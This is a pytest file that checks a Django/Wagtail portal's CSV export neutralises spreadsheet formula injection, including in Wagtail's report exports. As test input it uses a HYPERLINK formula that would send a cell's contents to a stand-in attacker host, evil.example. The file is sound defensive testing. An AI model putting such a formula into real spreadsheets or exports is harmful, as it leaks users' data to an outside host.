"""CSV exports: a cell that a spreadsheet would run as a formula is written as text."""

import csv
import io

import pytest

from portal.csv_export import DictWriter, safe_cell, writer
from portal.factories import StandardPageFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_start_a_formula_get_an_apostrophe(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("value", ["Sara Gent", "0470 00 00 00", "", "a=b", " =1", 12, 0.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def _written(make, rows) -> str:
    buffer = io.StringIO()
    make(buffer, rows)
    return buffer.getvalue()


def test_the_writer_neutralises_and_quotes_every_cell():
    text = _written(lambda f, rows: writer(f).writerows(rows), [["name", "phone"], [FORMULA, 5]])
    assert list(csv.reader(io.StringIO(text))) == [["name", "phone"], ["'" + FORMULA, "5"]]
    # Every cell is quoted: a spreadsheet that splits on ";" (Dutch and French Excel) keeps
    # "Jan;=1+1" in one cell, which starts with J.
    assert _written(lambda f, rows: writer(f).writerow(rows), ["Jan;=1+1"]) == '"Jan;=1+1"\r\n'


def test_the_dict_writer_neutralises_too():
    def make(buffer, rows):
        out = DictWriter(buffer, fieldnames=["name"])
        out.writeheader()
        out.writerows(rows)

    text = _written(make, [{"name": "-2+3"}, {"name": "Lars"}])
    assert list(csv.DictReader(io.StringIO(text))) == [{"name": "'-2+3"}, {"name": "Lars"}]


@pytest.mark.django_db
@pytest.mark.parametrize("report", ["aging-pages", "site-history"])
def test_wagtail_report_exports_neutralise_page_titles(
    client, demo_site, django_user_model, report
):
    """Wagtail's own CSV exports (reports, form submissions) go through the same writer."""
    admin = django_user_model.objects.create_superuser("boss", "boss@example.org", "x" * 12)
    page = StandardPageFactory(parent=demo_site, title=FORMULA, slug="formule")
    page.save_revision(user=admin, log_action=True).publish(user=admin)
    client.force_login(admin)
    response = client.get(f"/admin/reports/{report}/?export=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
